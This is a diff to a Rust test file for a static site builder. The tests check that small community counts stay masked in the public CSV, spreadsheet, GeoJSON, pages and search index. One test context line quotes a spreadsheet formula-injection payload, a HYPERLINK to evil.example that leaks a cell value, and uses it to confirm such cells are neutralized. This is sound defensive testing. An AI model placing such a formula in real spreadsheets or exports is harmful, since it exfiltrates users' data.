@@ -5,6 +5,7 @@
 use std::collections::BTreeMap;
 use std::path::Path;
 
+use calamine::{Data, Reader, Xlsx, open_workbook};
 use serde_json::Value;
 
 use crate::html::copy_site;
@@ -153,6 +154,35 @@ fn csv_cells(site: &Path) -> BTreeMap<(String, String, String), (String, String)
     out
 }
 
+/// The `indicators` sheet of `data/communities.xlsx`, keyed as [`csv_cells`], each cell as the
+/// CSV writes it.
+fn xlsx_cells(site: &Path) -> BTreeMap<(String, String, String), (String, String)> {
+    let mut book: Xlsx<_> = open_workbook(site.join("data/communities.xlsx")).unwrap();
+    let range = book.worksheet_range("indicators").unwrap();
+    let rows: Vec<Vec<String>> = range
+        .rows()
+        .map(|row| {
+            row.iter()
+                .map(|cell| match cell {
+                    Data::Empty => String::new(),
+                    Data::String(s) => s.clone(),
+                    Data::Float(f) if f.fract() == 0.0 => (*f as i64).to_string(),
+                    Data::Int(i) => i.to_string(),
+                    other => other.to_string(),
+                })
+                .collect()
+        })
+        .collect();
+    let at = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
+    let mut out = BTreeMap::new();
+    // Past the header and the HXL row.
+    for r in rows.iter().skip(2).filter(|r| r[at("indicator_id")] == INDICATOR) {
+        let key = (r[at("community_id")].clone(), r[at("dimension")].clone(), r[at("part")].clone());
+        out.insert(key, (r[at("value")].clone(), r[at("value_text")].clone()));
+    }
+    out
+}
+
 /// Every published word of the search index that is a number, with the documents it lists.
 fn search_numbers(site: &Path) -> (Vec<String>, BTreeMap<String, Vec<usize>>) {
     let docs = std::fs::read_to_string(site.join("search/docs-0.js")).unwrap();
@@ -202,6 +232,9 @@ fn no_masked_count_can_be_worked_out_from_a_public_build() {
     build(&root, &[]);
     let (public, internal) = (root.join("site"), root.join("site-internal"));
     let cells = csv_cells(&public);
+    assert_eq!(xlsx_cells(&public), cells, "the spreadsheet shows what the CSV shows");
+    let features = json(&public.join("data/communities.geojson"))["features"].as_array().unwrap().clone();
+    let mut mapped = 0;
     let indicator_page = std::fs::read_to_string(public.join(format!("indicators/{INDICATOR}.html"))).unwrap();
     let (doc_paths, numbers) = search_numbers(&public);
     let mut checked = 0;
@@ -213,9 +246,11 @@ fn no_masked_count_can_be_worked_out_from_a_public_build() {
         let shown = &json(&public.join(format!("data/communities/{id}.json")))["indicators"][INDICATOR];
         let true_total = truth["value"].as_u64().unwrap();
         let total = Seen::of(&shown["value"]);
-        let dims: Vec<Dimension> = truth["disaggregation"]
-            .as_object()
-            .unwrap()
+        // An entry written as its value alone has no parts.
+        let no_parts = serde_json::Map::new();
+        let dims: Vec<Dimension> = truth
+            .get("disaggregation")
+            .map_or(&no_parts, |d| d.as_object().unwrap())
             .iter()
             .map(|(dim, parts)| {
                 let parts = parts.as_object().unwrap();
@@ -269,10 +304,18 @@ fn no_masked_count_can_be_worked_out_from_a_public_build() {
             let title = json(&path)["title"].as_str().unwrap().to_string();
             assert!(!indicator_page.contains(&format!("{title}: {true_total}")), "{id}: its total is charted");
         }
+        // The GeoJSON (and so the maps) give the total as a number only when it is shown.
+        if let Some(feature) = features.iter().find(|f| f["id"] == id.as_str()) {
+            let value = &feature["properties"][INDICATOR];
+            let expected = (!total.masked()).then_some(true_total as f64);
+            assert_eq!(value.as_f64(), expected, "{id}: its total in the GeoJSON ({value})");
+            mapped += usize::from(total.masked());
+        }
         checked += 1;
     }
-    assert_eq!(checked, 9, "every profile was checked");
-    assert_eq!(masked_totals, 2, "the fixture has two totals that must be masked");
+    assert_eq!(checked, 10, "every profile was checked");
+    assert_eq!(masked_totals, 4, "the fixture has four totals that must be masked (two of them small)");
+    assert_eq!(mapped, 1, "a located profile's small total was looked for in the GeoJSON");
     // The internal build shows every figure as it is.
     let page = std::fs::read_to_string(internal.join("communities/nine.html")).unwrap();
     assert!(page.contains("female 2, male 7"), "the internal build masks counts");
@@ -308,6 +351,11 @@ fn themes_get_only_masked_values() {
     assert!(page.contains("<p>≥5|Sex: female=&lt;5/0.0/true male=&lt;5/0.0/true"), "{page}");
     let page = std::fs::read_to_string(root.join("site/communities/all-men.html")).unwrap();
     assert!(page.contains("<p>9|Sex: female=0/0.0/false male=9/9.0/false"), "{page}");
+    // A small total, with parts and without.
+    let page = std::fs::read_to_string(root.join("site/communities/three.html")).unwrap();
+    assert!(page.contains("<p>&lt;5|Sex: female=&lt;5/0.0/true male=&lt;5/0.0/true"), "{page}");
+    let page = std::fs::read_to_string(root.join("site/communities/lone.html")).unwrap();
+    assert!(page.contains("<p>&lt;5</p>"), "{page}");
     build(&root, &["--include-confidential"]);
     let page = std::fs::read_to_string(root.join("site-internal/communities/nine.html")).unwrap();
     assert!(page.contains("<p>9|Sex: female=2/2.0/false male=7/7.0/false"), "{page}");
@@ -350,4 +398,82 @@ fn csv_cells_that_a_spreadsheet_would_run_are_neutralized() {
     // Pages show the text as written.
     let page = std::fs::read_to_string(root.join("site/communities/payloads.html")).unwrap();
     assert!(page.contains("=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)"));
+}
+
+#[test]
+fn check_warns_about_a_small_total_at_its_value() {
+    let root = copy_site(&fixture("disclosure/subtraction"), "disclosure-small-total-check");
+    let result = run(&root, &["check", "--all"]);
+    assert_eq!(result.code, 0, "{}", result.stderr);
+    let warning = format!(
+        "warning[small-count]: `{INDICATOR}` is 3, below the privacy threshold of {THRESHOLD}: public pages show it as <{THRESHOLD}\n  --> content/communities/lone.md:11:29"
+    );
+    assert!(result.stderr.contains(&warning), "{}", result.stderr);
+    // Written as a table, it is located at its `value`.
+    assert!(result.stderr.contains("  --> content/communities/three.md:11:12"), "{}", result.stderr);
+    // A total of 0 is nobody: no warning.
+    std::fs::write(
+        root.join("content/communities/lone.md"),
+        std::fs::read_to_string(root.join("content/communities/lone.md")).unwrap().replace(": 3\n", ": 0\n"),
+    )
+    .unwrap();
+    let result = run(&root, &["check", "--all"]);
+    assert!(!result.stderr.contains("content/communities/lone.md:11:29"), "{}", result.stderr);
+}
+
+#[test]
+fn a_total_that_its_mark_would_give_away_is_left_out_of_every_public_file() {
+    // With a threshold of 2, `<2` of a count that is not 0 can only be 1.
+    let root = copy_site(&fixture("disclosure/subtraction"), "disclosure-threshold-two");
+    std::fs::write(
+        root.join("fieldbook.toml"),
+        "title = \"Subtraction site\"\n\n[privacy]\nsmall_count_threshold = 2\n",
+    )
+    .unwrap();
+    let lone = root.join("content/communities/lone.md");
+    std::fs::write(&lone, std::fs::read_to_string(&lone).unwrap().replace(": 3\n", ": 1\n")).unwrap();
+    let result = run(&root, &["check", "--all"]);
+    assert!(
+        result
+            .stderr
+            .contains(&format!("`{INDICATOR}` is 1, below the privacy threshold of 2: public pages leave it out")),
+        "{}",
+        result.stderr
+    );
+    build(&root, &["--include-confidential"]);
+    build(&root, &[]);
+    let (public, internal) = (root.join("site"), root.join("site-internal"));
+    assert_eq!(json(&internal.join("data/communities/lone.json"))["indicators"][INDICATOR]["value"], 1);
+    assert!(json(&public.join("data/communities/lone.json"))["indicators"].get(INDICATOR).is_none());
+    assert!(!csv_cells(&public).keys().any(|k| k.0 == "lone"), "the CSV leaves it out");
+    assert!(!xlsx_cells(&public).keys().any(|k| k.0 == "lone"), "the spreadsheet leaves it out");
+    let feature = json(&public.join("data/communities.geojson"))["features"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["id"] == "lone")
+        .cloned()
+        .unwrap();
+    assert_eq!(feature["properties"][INDICATOR], Value::Null);
+    let indicator_page = std::fs::read_to_string(public.join(format!("indicators/{INDICATOR}.html"))).unwrap();
+    // The comparison and its map leave it out, and list it with the profiles that do not give
+    // it: a count beside the comparison would say that a figure is there and hidden.
+    assert!(!indicator_page.contains("communities/lone.html#indicators"), "the comparison lists it");
+    assert!(
+        indicator_page
+            .contains("without this indicator</h2><ul class=\"inline-list\"><li><a href=\"../communities/lone.html\">"),
+        "{indicator_page}"
+    );
+    assert!(indicator_page.contains("given by 9 of 10"), "{indicator_page}");
+    let internal_indicator = std::fs::read_to_string(internal.join(format!("indicators/{INDICATOR}.html"))).unwrap();
+    assert!(internal_indicator.contains("given by 10 of 10"), "{internal_indicator}");
+    let page = std::fs::read_to_string(public.join("communities/lone.html")).unwrap();
+    let internal_page = std::fs::read_to_string(internal.join("communities/lone.html")).unwrap();
+    let row =
+        |value: &str| format!("Returnees in the last 12 months</a></th>\n<td><span class=\"value\">{value}</span>");
+    assert!(page.contains(&row("Not given")), "the profile shows it as not given:\n{page}");
+    assert!(internal_page.contains(&row("1")), "the internal build shows it:\n{internal_page}");
+    let (doc_paths, numbers) = search_numbers(&public);
+    let doc = doc_paths.iter().position(|p| p == "communities/lone.html").unwrap();
+    assert!(!numbers.get("1").is_some_and(|docs| docs.contains(&doc)), "its total is in the search index");
 }
